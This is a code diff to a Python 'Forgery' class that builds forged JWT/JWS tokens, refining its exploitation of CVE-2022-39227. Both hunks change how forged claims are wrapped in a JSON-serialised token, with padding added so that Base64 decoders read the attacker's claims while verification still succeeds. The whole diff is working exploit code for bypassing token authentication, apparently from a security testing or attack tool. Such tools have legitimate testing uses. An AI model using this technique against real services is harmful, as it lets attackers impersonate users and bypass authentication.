@@ -69,8 +69,9 @@ class Forgery:
         if self.form == "JSON":
             return _written({"payload": second, "protected": first, "signature": end})
         if self.form == "JSON around another":
-            # CVE-2022-39227: who verifies reads the members, and who splits at the dots reads the forged claims.
-            return _written({f"{start}.": "", "protected": header, "payload": claims, "signature": signature})
+            # CVE-2022-39227: who verifies reads the members, and who splits at the dots reads the forged claims. With
+            # two blanks, what stands before the header has four letters, which decoders of Base64 pass over.
+            return _written({f"  {start}.": "", "protected": header, "payload": claims, "signature": signature})
         forged = f"{start}.{end}"
         return None if equivalent(forged, value) else forged
 
@@ -103,7 +104,7 @@ class Forgery:
         if self.signature == "absent":
             return "h+'.'+p"
         if self.form == "JSON around another":
-            return "json.dumps({h+'.'+p+'.':'','protected':H,'payload':P,'signature':s},separators=(',',':'))"
+            return "json.dumps({'  '+h+'.'+p+'.':'','protected':H,'payload':P,'signature':s},separators=(',',':'))"
         if self.form == "JSON":
             return f"json.dumps(dict(payload=p,protected=h,signature={self._expression()}),separators=(',',':'))"
         return f"h+'.'+p+'.'+{self._expression()}"
